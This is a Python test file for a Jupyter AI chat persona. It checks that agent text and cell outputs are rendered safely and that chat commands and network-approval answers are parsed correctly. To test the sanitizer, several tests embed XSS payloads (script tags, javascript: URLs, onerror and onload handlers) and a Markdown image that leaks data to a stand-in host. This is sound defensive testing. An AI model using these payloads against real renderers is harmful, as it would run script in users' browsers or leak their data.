"""The persona's chat messages as Markdown, and what a chat message asks: pure functions.

They run without Jupyter AI. The Markdown is parsed here with mistune (CommonMark's rules
for fences and HTML blocks, which JupyterLab's marked follows too), so a test sees which
parts a chat renderer would take as code, as HTML, or as Markdown.
"""

from __future__ import annotations

import base64
import subprocess
import sys

import mistune
import pytest

from codeagent_jupyter import events as ev
from codeagent_jupyter.persona import render
from codeagent_jupyter.persona.requests import (
    APPROVE,
    DENY,
    HELP,
    NEW,
    REQUEST,
    STOP,
    notebook_of,
    parse,
)
from codeagent_jupyter.timeline.fold import fold
from codeagent_jupyter.timeline.state import CellItem, TextItem, ToolItem

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 16).decode()


def blocks(markdown: str) -> list[tuple[str, str]]:
    """``(kind, content)`` of each top-level block a Markdown parser finds: ``fence``,
    ``html`` or ``markdown`` (anything else, which a renderer would read as Markdown)."""
    found = []
    for token in mistune.create_markdown(renderer="ast")(markdown):
        if token["type"] == "block_code" and token.get("style") == "fenced":
            found.append(("fence", token["raw"]))
        elif token["type"] == "block_html":
            found.append(("html", token["raw"]))
        elif token["type"] != "blank_line":
            found.append(("markdown", str(token)))
    return found


def cell(code: str, outputs: list[dict], status: str = "ok", number: int = 1) -> CellItem:
    return CellItem(
        f"cell-c{number}",
        f"c{number}",
        1,
        number,
        "run_cell",
        code,
        tuple(outputs),
        status,
        ran=True,
    )


def test_a_fence_cannot_be_closed_by_the_code_inside() -> None:
    code = "s = '''\n```\n````\nnot code any more?\n'''"
    found = blocks(render.fence(code, "python"))
    assert found == [("fence", code + "\n")]


def test_an_html_block_stays_one_block_whatever_its_text() -> None:
    text = "line one\n\n\n# not a heading\n    not code\n<script>alert(1)</script>"
    body = render.join(render.line(text), render.fence("x = 1"))
    found = blocks(body)
    assert [kind for kind, _ in found] == ["html", "fence"]
    assert "<script>" not in found[0][1] and "&lt;script&gt;" in found[0][1]
    assert "\n" not in found[0][1].rstrip("\n")


def test_a_cell_shows_its_code_as_it_lands_in_the_users_kernel_and_its_outputs() -> None:
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": "<b>bold?</b>\n"},
        {"output_type": "display_data", "data": {"image/png": PNG, "text/plain": "<Figure>"}},
        {
            "output_type": "error",
            "ename": "ValueError",
            "evalue": "<bad>",
            "traceback": ["\x1b[31mValueError\x1b[0m: <bad>"],
        },
    ]
    body = render.cell_body(
        cell("df = pd.DataFrame()\nprint(df)", outputs, "error"), ("pandas as pd",)
    )
    found = blocks(body)
    kinds = [kind for kind, _ in found]
    assert kinds == ["html", "fence", "html", "html"], found
    assert found[1][1] == "import pandas as pd\ndf = pd.DataFrame()\nprint(df)\n"
    assert body.count("```python") == 1
    shown = found[3][1]
    assert "&lt;b&gt;bold?&lt;/b&gt;" in shown and "<b>bold" not in shown
    assert f'src="data:image/png;base64,{PNG}"' in shown
    assert "ValueError: &lt;bad&gt;" in shown and "\x1b" not in shown


def test_images_only_from_data_urls_and_html_through_the_allow_list() -> None:
    html_output = (
        '<table><tr><td onclick="x()">1</td></tr></table><script>alert(1)</script>'
        '<img src="https://example.org/x.png"><img src="javascript:alert(1)">'
    )
    outputs = [
        {"output_type": "display_data", "data": {"text/html": html_output}},
        {"output_type": "display_data", "data": {"image/png": 'AAAA" onerror="alert(1)'}},
        {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload='alert(1)'/>"}},
    ]
    body = render.cell_body(cell("show()", outputs), ())
    assert "<td>1</td>" in body
    for bad in ("<script", "onclick", "https://example.org", "javascript:", 'onerror="'):
        assert bad not in body, bad
    assert "not base64 image data" in body
    assert 'src="data:image/svg+xml;base64,' in body  # an SVG only ever inside <img>


def test_the_models_markdown_is_rendered_but_its_html_and_remote_images_are_not() -> None:
    text = (
        "The mean is **3**.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "![chart](https://example.org/leak?d=secret) <img src=https://example.org/y> "
        "<script>alert(1)</script> [docs](https://jupyter.org)"
    )
    body = render.text_body(TextItem("text-1", 1, text, True))
    ((kind, html),) = blocks(body)
    assert kind == "html"
    assert "<strong>3</strong>" in html and "<td>1</td>" in html
    assert "example.org" not in html.replace("&lt;img src=https://example.org/y&gt;", "")
    assert "&lt;script&gt;" in html and "<script" not in html
    assert 'href="https://jupyter.org"' in html


def test_long_outputs_are_bounded() -> None:
    outputs = [{"output_type": "display_data", "data": {"image/png": PNG * 40_000}}] * 3
    body = render.cell_body(cell("plot()", outputs), ())
    assert len(body) < render.MAX_OUTPUT_CHARS + 10_000
    assert "outputs only in the session notebook" in body


def test_a_session_becomes_messages_item_by_item() -> None:
    events = [
        ev.RunStarted(seq=0, prompt="go"),
        ev.PlanUpdated(seq=1, steps=[{"step": "<load> data", "status": "in_progress"}]),
        ev.ToolCallStarted(
            seq=2, step=1, tool_call_id="a", name="run_cell", arguments={"code": "1 + 1"}
        ),
        ev.ToolCallFinished(
            seq=3,
            step=1,
            tool_call_id="a",
            name="run_cell",
            code="1 + 1",
            outputs=[{"output_type": "execute_result", "data": {"text/plain": "2"}}],
        ),
        ev.ToolCallStarted(
            seq=4, step=2, tool_call_id="b", name="read_file", arguments={"path": "x.csv"}
        ),
        ev.ToolCallFinished(
            seq=5,
            step=2,
            tool_call_id="b",
            name="read_file",
            status="error",
            result="no such file: x.csv",
        ),
        ev.AssistantMessage(seq=6, step=3, message={"role": "assistant", "content": "Two."}),
        ev.RunFinished(seq=7, status="answered", answer="Two.", steps=3, duration_s=1.25),
    ]
    state = fold(events)
    shown = [(type(i).__name__, render.item_body(i, state)) for i in state.items]
    assert shown[0] == ("PromptItem", None)  # the user's own message is already in the chat
    kinds = [name for name, body in shown if body]
    assert kinds == ["CellItem", "ToolItem", "TextItem", "FinishedItem"]
    assert "&lt;load&gt; data" in render.plan_body(state.plan)
    tool = next(i for i in state.items if isinstance(i, ToolItem))
    assert "read_file</code> · error · no such file: x.csv" in render.tool_body(tool)
    end = shown[-1][1]
    assert "done · 3 steps · 1.2 s" in end and "codeagent-chat-end" in end
    assert "Two." not in end  # the answer has its own message already


@pytest.mark.parametrize(
    ("body", "kind", "text"),
    [
        ("@codeagent plot sales.csv", REQUEST, "plot sales.csv"),
        ("  @codeagent: @codeagent  plot it", REQUEST, "plot it"),
        (
            "plot it (no mention: the picker chose codeagent)",
            REQUEST,
            "plot it (no mention: the picker chose codeagent)",
        ),
        ("@codeagent new load data.csv", NEW, "load data.csv"),
        ("@codeagent new", REQUEST, "new"),
        ("@codeagent", HELP, ""),
        ("@codeagent help", HELP, ""),
        ("@codeagent STOP", STOP, ""),
        ("@codeagent stop the loop after step two", REQUEST, "stop the loop after step two"),
        ("@codeagent approve", APPROVE, ""),
        ("@codeagent deny", DENY, ""),
        ("@codeagentx hi", REQUEST, "@codeagentx hi"),
    ],
)
def test_what_a_message_asks(body: str, kind: str, text: str) -> None:
    asked = parse(body, "codeagent")
    assert (asked.kind, asked.text) == (kind, text)


def test_approve_for_the_session_remembers() -> None:
    assert parse("@codeagent approve for session", "codeagent").remember == "session"
    assert parse("@codeagent approve", "codeagent").remember == ""


@pytest.mark.parametrize(
    ("body", "kind", "remember", "host"),
    [
        ("@codeagent approve data.example.org", APPROVE, "", "data.example.org"),
        ("@codeagent allow Data.Example.org. for session", APPROVE, "session", "data.example.org"),
        (
            "@codeagent approve data.example.org for the session",
            APPROVE,
            "session",
            "data.example.org",
        ),
        ("@codeagent deny data.example.org", DENY, "", "data.example.org"),
        ("@codeagent deny data.example.org for session", DENY, "", "data.example.org"),
        ("@codeagent approve [::1]", APPROVE, "", "[::1]"),
        ("@codeagent approve for session", APPROVE, "session", ""),  # a tool call
        ("@codeagent approve it", REQUEST, "", ""),  # no host: a request
        ("@codeagent approve <img src=x>.org", REQUEST, "", ""),
        ("@codeagent approve data.example.org and more", REQUEST, "", ""),
    ],
)
def test_an_answer_about_the_network_names_its_host(
    body: str, kind: str, remember: str, host: str
) -> None:
    asked = parse(body, "codeagent")
    assert (asked.kind, asked.remember, asked.host) == (kind, remember, host)


def test_the_network_question_shows_the_host_as_code_and_how_to_answer() -> None:
    body = render.network_ask_body("data.example.org", 443, "CONNECT", 300)
    assert [kind for kind, _ in blocks(body)] == ["html"]
    assert "<code>data.example.org</code>" in body and "within" not in body
    assert "@codeagent approve data.example.org for session" in body and "300 s" in body
    hostile = render.network_ask_body("<img src=x onerror=alert(1)>", 80, "<b>", 0)
    assert "<img" not in hostile and "&lt;img" in hostile and "(&lt;b&gt; to port 80)" in hostile


def test_the_notebook_is_the_first_attached_one() -> None:
    class Attachment:
        def __init__(self, value: str) -> None:
            self.value = value

    found = {"a": Attachment("data.csv"), "b": Attachment("work/nb.ipynb")}
    assert notebook_of(["a", "b"], found) == "work/nb.ipynb"
    assert notebook_of(["a"], found) is None
    assert notebook_of(None, found) is None


def test_the_package_does_not_import_jupyter_ai() -> None:
    """Jupyter AI's persona manager is the only importer of the persona class: importing
    the package (and the persona's pure modules) brings in nothing of Jupyter AI."""
    code = (
        "import sys, codeagent_jupyter, codeagent_jupyter.server\n"
        "import codeagent_jupyter.persona, codeagent_jupyter.persona.render\n"
        "import codeagent_jupyter.persona.requests, codeagent_jupyter.persona.mirror\n"
        "bad = [m for m in sys.modules if m.startswith(('jupyter_ai', 'jupyterlab_chat'))]\n"
        "print(bad)\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]", out.stdout
